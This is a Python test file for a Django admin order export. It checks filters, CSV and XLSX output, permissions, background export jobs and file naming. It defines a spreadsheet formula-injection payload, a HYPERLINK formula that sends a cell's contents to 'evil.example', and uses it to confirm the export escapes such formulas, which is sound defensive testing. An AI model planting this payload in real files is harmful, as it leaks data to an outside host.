"""Export of orders at django-import-export's URL: filters, formats, escaping, permissions."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.http import FileResponse, StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from orders.models import Customer, ExportJob, Order, Product
from salesproject.tests.csv_injection import ESCAPED, FORMULA_IDS

pytestmark = pytest.mark.django_db

EXPORT_URL = "/admin/orders/order/export/"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'
CSV_FORMAT, XLSX_FORMAT = "0", "1"  # positions in OrderAdmin.export_formats


def order_make(order_id: str, *, customer_id: str = "C1", order_date: date = date(2024, 1, 10), price="12.90"):
    return Order.objects.create(
        order_id=order_id,
        customer=Customer.objects.get_or_create(customer_id=customer_id)[0],
        product=Product.objects.get_or_create(product_id="P1")[0],
        quantity=2,
        unit_price=Decimal(price),
        line_total=2 * Decimal(price),
        order_date=order_date,
        source_file="sales_data_2024-01-10.csv",
        source_line=int(order_id) - 999,
        source_business_date=date(2024, 1, 10),
    )


def export(client, file_format: str, query: str = "", **fields):
    data = {"format": file_format, "resource": "0"}
    for name in ("order_id", "line_no", "customer_id", "product_id", "quantity", "unit_price", "line_total",
                 "order_date", "source_file", "source_line", "source_business_date"):
        if fields.get(name, True):
            data[f"orderresource_{name}"] = "on"
    return client.post(EXPORT_URL + query, data)


def csv_rows(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_export_url_is_django_import_exports_and_the_order_list_links_to_it_with_its_filters(admin_client):
    order_make("1001")

    page = admin_client.get(reverse("admin:orders_order_changelist") + "?order_date__year=2024").content.decode()

    assert reverse("admin:orders_order_export") == EXPORT_URL
    assert f'href="{EXPORT_URL}?order_date__year=2024"' in page
    form = admin_client.get(EXPORT_URL).content.decode()
    assert ">csv<" in form and ">xlsx<" in form


def test_csv_export_streams_every_order_with_sales_file_columns(admin_client):
    order_make("1001")
    order_make("1002", customer_id="00712", price="5.00")

    response = export(admin_client, CSV_FORMAT)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="orders_2024-01-10_2024-01-10.csv"'
    rows = csv_rows(response)
    assert rows[0] == [
        "order_id", "line_no", "customer_id", "product_id", "quantity", "unit_price", "line_total", "order_date",
        "source_file", "source_line", "source_business_date",
    ]
    assert sorted(rows[1:]) == [
        ["1001", "1", "C1", "P1", "2", "12.90", "25.80", "2024-01-10", "sales_data_2024-01-10.csv", "2", "2024-01-10"],
        ["1002", "1", "00712", "P1", "2", "5.00", "10.00", "2024-01-10", "sales_data_2024-01-10.csv", "3", "2024-01-10"],
    ]


def test_export_applies_the_order_lists_current_filters_and_search(admin_client):
    order_make("1001", order_date=date(2024, 1, 10))
    order_make("1002", order_date=date(2024, 2, 10))
    order_make("1003", order_date=date(2024, 2, 11), customer_id="C9")

    by_month = csv_rows(export(admin_client, CSV_FORMAT, "?order_date__month=2&order_date__year=2024"))
    by_search = csv_rows(export(admin_client, CSV_FORMAT, "?q=C9"))

    assert sorted(row[0] for row in by_month[1:]) == ["1002", "1003"]
    assert [row[0] for row in by_search[1:]] == ["1003"]


def test_export_writes_only_the_fields_ticked_on_the_form(admin_client):
    order_make("1001")

    rows = csv_rows(export(
        admin_client, CSV_FORMAT, line_no=False, line_total=False, source_file=False, source_line=False,
        source_business_date=False,
    ))

    assert rows == [
        ["order_id", "customer_id", "product_id", "quantity", "unit_price", "order_date"],
        ["1001", "C1", "P1", "2", "12.90", "2024-01-10"],
    ]


def test_csv_export_escapes_a_hyperlink_formula_in_a_customer_id(admin_client):
    order_make("1001", customer_id=HYPERLINK)

    rows = csv_rows(export(admin_client, CSV_FORMAT))

    assert rows[1][2] == "'" + HYPERLINK
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_csv_export_gives_every_formula_a_leading_quote_and_strips_nothing(admin_client):
    for number, customer_id in enumerate(FORMULA_IDS, start=1001):
        order_make(str(number), customer_id=customer_id)
    order_make("1100", customer_id="C1")

    rows = csv_rows(export(admin_client, CSV_FORMAT))

    customers = {row[0]: row[2] for row in rows[1:]}
    assert [customers[str(number)] for number in range(1001, 1001 + len(FORMULA_IDS))] == [
        ESCAPED[customer_id] for customer_id in FORMULA_IDS
    ]
    assert next(row for row in rows if row[0] == "1100")[1:7] == ["1", "C1", "P1", "2", "12.90", "25.80"]


def test_xlsx_export_is_a_file_whose_customer_cell_is_text_not_a_formula(admin_client):
    order_make("1001", customer_id=HYPERLINK)
    order_make("1002")

    response = export(admin_client, XLSX_FORMAT, "?q=1001")

    assert response.status_code == 200 and isinstance(response, FileResponse)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert ".xlsx" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.max_row == 2  # the search kept one order
    assert (sheet["A2"].value, sheet["B2"].value) == ("1001", 1)
    assert sheet["C2"].value == HYPERLINK and sheet["C2"].data_type == "s"  # text, unchanged
    assert sheet["F2"].number_format == "0.00" and sheet["G2"].number_format == "0.00"  # unit price, line total
    assert sheet["G1"].value == "line_total" and float(sheet["G2"].value) == 25.80


def test_export_form_errors_are_shown_not_a_file(admin_client):
    response = admin_client.post(EXPORT_URL, {"format": "", "resource": "0"})

    assert response.status_code == 200
    assert "This field is required." in response.content.decode()


def test_sales_staff_can_export(client, group_user):
    order_make("1001")
    client.force_login(group_user("Sales staff"))

    assert client.get(EXPORT_URL).status_code == 200
    assert [row[0] for row in csv_rows(export(client, CSV_FORMAT))] == ["order_id", "1001"]
    assert EXPORT_URL in client.get(reverse("admin:orders_order_changelist")).content.decode()


def test_analysts_and_staff_without_the_export_permission_get_403(client, group_user, django_user_model):
    order_make("1001")
    client.force_login(group_user("Analysts"))

    assert client.get(EXPORT_URL).status_code == 403
    assert export(client, CSV_FORMAT).status_code == 403
    # They still see the order list, without the export link.
    page = client.get(reverse("admin:orders_order_changelist"))
    assert page.status_code == 200 and EXPORT_URL not in page.content.decode()


def test_export_needs_a_signed_in_staff_user(client):
    response = client.get(EXPORT_URL)

    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_a_big_xlsx_export_is_written_by_a_worker_and_offered_on_its_page(admin_client, settings, eager_tasks):
    settings.EXPORT_XLSX_INLINE_MAX_ROWS = 1
    order_make("1001", order_date=date(2024, 2, 10))
    order_make("1002", order_date=date(2024, 2, 11), customer_id=HYPERLINK)
    order_make("1003", order_date=date(2024, 3, 1))

    response = export(admin_client, XLSX_FORMAT, "?order_date__month=2&order_date__year=2024")

    assert response.status_code == 302
    job = ExportJob.objects.get()
    assert response["Location"] == reverse("admin:orders_order_export_job", args=[job.pk])
    page = admin_client.get(response["Location"]).content.decode()
    download = reverse("admin:orders_order_export_job_download", args=[job.pk])
    assert "2 order lines are written to" in page and f'href="{download}"' in page
    file = admin_client.get(download)
    assert file.status_code == 200 and job.file_name in file["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(b"".join(file.streaming_content))).active
    assert sorted((row[0], row[2]) for row in sheet.iter_rows(min_row=2, values_only=True)) == [
        ("1001", "C1"), ("1002", HYPERLINK),
    ]


def test_a_job_written_by_a_worker_holds_every_formula_as_text_unchanged(admin_client, settings, eager_tasks):
    settings.EXPORT_XLSX_INLINE_MAX_ROWS = 1
    for number, customer_id in enumerate(FORMULA_IDS, start=1001):
        order_make(str(number), customer_id=customer_id)

    export(admin_client, XLSX_FORMAT)
    file = admin_client.get(reverse("admin:orders_order_export_job_download", args=[ExportJob.objects.get().pk]))

    sheet = load_workbook(io.BytesIO(b"".join(file.streaming_content))).active
    customers = {row[0].value: row[2] for row in sheet.iter_rows(min_row=2)}
    assert [customers[str(number)].value for number in range(1001, 1001 + len(FORMULA_IDS))] == FORMULA_IDS
    assert {cell.data_type for cell in customers.values()} == {"s"}


@pytest.mark.parametrize("query", ["?start=0001-01-01", "?order_date__gte=abc", "?source_run__id__exact=abc"])
def test_the_export_page_under_filters_the_order_list_does_not_have_answers_as_the_list_does(admin_client, query):
    list_answer = admin_client.get("/admin/orders/order/" + query)

    for response in (admin_client.get(EXPORT_URL + query), export(admin_client, CSV_FORMAT, query)):
        assert response.status_code == 302 and response["Location"] == list_answer["Location"] == "/admin/orders/order/?e=1"


def test_the_export_page_polls_while_a_worker_writes(admin_client, admin_user):
    job = ExportJob.objects.create(
        file_format="xlsx", file_name="Order.xlsx", query=b"", rows_expected=1_000_000, rows_done=250_000,
        status=ExportJob.Status.RUNNING, requested_by=admin_user,
    )
    url = reverse("admin:orders_order_export_job", args=[job.pk])

    page = admin_client.get(url).content.decode()
    region = admin_client.get(url, headers={"HX-Request": "true"}).content.decode()

    assert 'hx-trigger="every 1s"' in page and '<strong id="rows-done">250000</strong> of 1000000 order lines' in page
    assert region.lstrip().startswith('<div id="export-job"') and "<html" not in region
    assert all("HX-Request" in admin_client.get(url, headers=headers)["Vary"] for headers in ({}, {"HX-Request": "true"}))


def test_someone_elses_export_and_a_download_not_ready_are_refused(client, group_user, admin_user):
    job = ExportJob.objects.create(
        file_format="xlsx", file_name="Order.xlsx", query=b"", status=ExportJob.Status.RUNNING, requested_by=admin_user
    )
    staff = group_user("Sales staff")
    client.force_login(staff)

    assert client.get(reverse("admin:orders_order_export_job", args=[job.pk])).status_code == 403
    ExportJob.objects.filter(pk=job.pk).update(requested_by=staff)
    refused = client.get(reverse("admin:orders_order_export_job_download", args=[job.pk]), follow=True)
    assert "The export is not ready: being written." in refused.content.decode()
    client.force_login(group_user("Analysts", username="analyst"))
    assert client.get(reverse("admin:orders_order_export_job", args=[job.pk])).status_code == 403


# --- Orders of lines (issue 18) ------------------------------------------------------------------

def test_export_writes_each_line_with_its_line_no_and_total_a_guest_and_a_refund_with_empty_ids(admin_client):
    from .line_factories import line_make

    line_make("#1001", customer_id=None, quantity=3, unit_price="10.00", order_date=date(2024, 5, 1))
    line_make("#1001", line_no=2, customer_id=None, product_id=None, quantity=0, unit_price="0", line_total="-7.50",
              order_date=date(2024, 5, 1))
    line_make("C536379", product_id="D", quantity=-1, unit_price="27.50", order_date=date(2010, 12, 1))

    rows = csv_rows(export(admin_client, CSV_FORMAT, source_file=False, source_line=False, source_business_date=False))

    assert rows[0] == ["order_id", "line_no", "customer_id", "product_id", "quantity", "unit_price", "line_total",
                       "order_date"]
    assert sorted(rows[1:]) == [
        ["#1001", "1", "", "P1", "3", "10.00", "30.00", "2024-05-01"],
        ["#1001", "2", "", "", "0", "0.00", "-7.50", "2024-05-01"],  # a negative amount is a number, not escaped
        ["C536379", "1", "C1", "D", "-1", "27.50", "-27.50", "2010-12-01"],
    ]


def test_xlsx_export_leaves_a_guests_customer_cell_empty(admin_client):
    from .line_factories import line_make

    line_make("2001", customer_id=None, quantity=1, unit_price="4.00")

    response = export(admin_client, XLSX_FORMAT)

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert [cell.value for cell in sheet[1]][:4] == ["order_id", "line_no", "customer_id", "product_id"]
    assert (sheet["A2"].value, sheet["B2"].value, sheet["C2"].value, sheet["D2"].value) == ("2001", 1, None, "P1")


def _resource_import(text: str):
    import tablib

    from orders.resources import OrderResource

    return OrderResource().import_data(tablib.Dataset().load(text, format="csv"), dry_run=False)


def test_importing_an_export_reads_a_row_without_line_no_or_total_as_line_1_of_quantity_times_price():
    result = _resource_import(
        "order_id,customer_id,product_id,quantity,unit_price,order_date\n"
        "3001,C1,P1,3,2.50,2024-06-01\n"
    )

    assert not result.has_errors() and not result.has_validation_errors()
    line = Order.objects.get(order_id="3001")
    assert (line.line_no, line.line_total, line.order_count) == (1, Decimal("7.50"), 1)
    assert (line.customer.customer_id, line.product.product_id) == ("C1", "P1")


def test_importing_lines_keeps_their_line_no_and_total_and_reads_empty_ids_as_guest_and_refund():
    result = _resource_import(
        "order_id,line_no,customer_id,product_id,quantity,unit_price,line_total,order_date\n"
        "#4001,1,,P1,3,3.33,10.00,2024-06-01\n"
        "#4001,2,,,0,0.00,-4.00,2024-06-01\n"
        "#4001,3,,P2,-1,2.00,,2024-06-01\n"
    )

    assert not result.has_errors() and not result.has_validation_errors()
    lines = list(Order.objects.filter(order_id="#4001").order_by("line_no").values_list(
        "line_no", "customer", "product__product_id", "quantity", "line_total", "order_count",
    ))
    assert lines == [
        (1, None, "P1", 3, Decimal("10.00"), 1),  # the file's amount, not 3 x 3.33
        (2, None, None, 0, Decimal("-4.00"), 0),
        (3, None, "P2", -1, Decimal("-2.00"), 0),
    ]
    # Imported again as it stands: every line matched by order id and line, nothing new.
    _resource_import("order_id,line_no,customer_id,product_id,quantity,unit_price,line_total,order_date\n"
                     "#4001,2,,,0,0.00,-4.00,2024-06-01\n")
    assert Order.objects.filter(order_id="#4001").count() == 3


def test_importing_a_line_with_no_product_and_a_quantity_is_refused():
    from orders.services.corrections import REFUND_LINE_QUANTITY

    result = _resource_import(
        "order_id,line_no,customer_id,product_id,quantity,unit_price,order_date\n5001,1,C1,,2,1.00,2024-06-01\n"
    )

    assert result.has_errors()
    assert REFUND_LINE_QUANTITY in str(result.row_errors()[0][1][0].error)
    assert not Order.objects.filter(order_id="5001").exists()


# --- The export page: what it exports, how many lines, CSV first, the file named after the shop and range ---


def test_export_page_says_which_orders_and_how_many_lines_it_exports(admin_client):
    order_make("1001", order_date=date(2024, 1, 10))
    order_make("1002", order_date=date(2024, 2, 10))
    order_make("1003", order_date=date(2024, 3, 11), customer_id="C9")
    order_make("1004", order_date=date(2024, 4, 1))

    page = admin_client.get(
        EXPORT_URL + "?customer__customer_id__exact=C1&order_date__gte=2024-01-01&order_date__lte=2024-03-31"
    ).content.decode()

    assert '<strong id="export-filter">Orders of customer C1, 2024-01-01 to 2024-03-31</strong>' in page
    assert '<span id="export-rows">2 order lines</span>' in page
    assert '<code class="export-file-name">orders_2024-01-01_2024-03-31.csv</code>' in page
    assert '<code class="export-file-name">orders_2024-01-01_2024-03-31.xlsx</code>' in page


def test_export_page_of_the_whole_list_says_all_orders_and_one_line(admin_client):
    order_make("1001")

    page = admin_client.get(EXPORT_URL).content.decode()

    assert '<strong id="export-filter">All orders</strong>' in page
    assert '<span id="export-rows">1 order line</span>' in page


def test_export_form_opens_on_csv_with_no_empty_choice(admin_client):
    page = admin_client.get(EXPORT_URL).content.decode()

    assert '<option value="0" selected>csv</option>' in page
    assert '<option value="">---</option>' not in page


def test_exported_file_is_named_after_the_lists_date_range(admin_client):
    order_make("1001", order_date=date(2024, 2, 10))

    response = export(admin_client, CSV_FORMAT, "?order_date__gte=2024-01-01&order_date__lte=2024-03-31")

    assert response["Content-Disposition"] == 'attachment; filename="orders_2024-01-01_2024-03-31.csv"'


def test_an_open_end_of_the_range_is_the_first_or_last_day_exported(admin_client):
    order_make("1001", order_date=date(2024, 2, 10))
    order_make("1002", order_date=date(2024, 5, 20))

    response = export(admin_client, CSV_FORMAT, "?order_date__gte=2024-01-01")

    assert response["Content-Disposition"] == 'attachment; filename="orders_2024-01-01_2024-05-20.csv"'


def test_exported_file_is_named_after_the_shop_when_it_has_a_name(admin_client, settings):
    settings.SHOP_NAME = "Café Ünïque & Co"
    order_make("1001", order_date=date(2024, 2, 10))

    csv_response = export(admin_client, CSV_FORMAT, "?order_date__month=2&order_date__year=2024")
    xlsx_response = export(admin_client, XLSX_FORMAT, "?order_date__month=2&order_date__year=2024")

    assert csv_response["Content-Disposition"] == 'attachment; filename="cafe-unique-co_2024-02-01_2024-02-29.csv"'
    assert 'filename="cafe-unique-co_2024-02-01_2024-02-29.xlsx"' in xlsx_response["Content-Disposition"]


def test_an_export_of_no_orders_and_no_range_is_named_after_the_shop_alone(admin_client):
    response = export(admin_client, CSV_FORMAT)

    assert response["Content-Disposition"] == 'attachment; filename="orders.csv"'
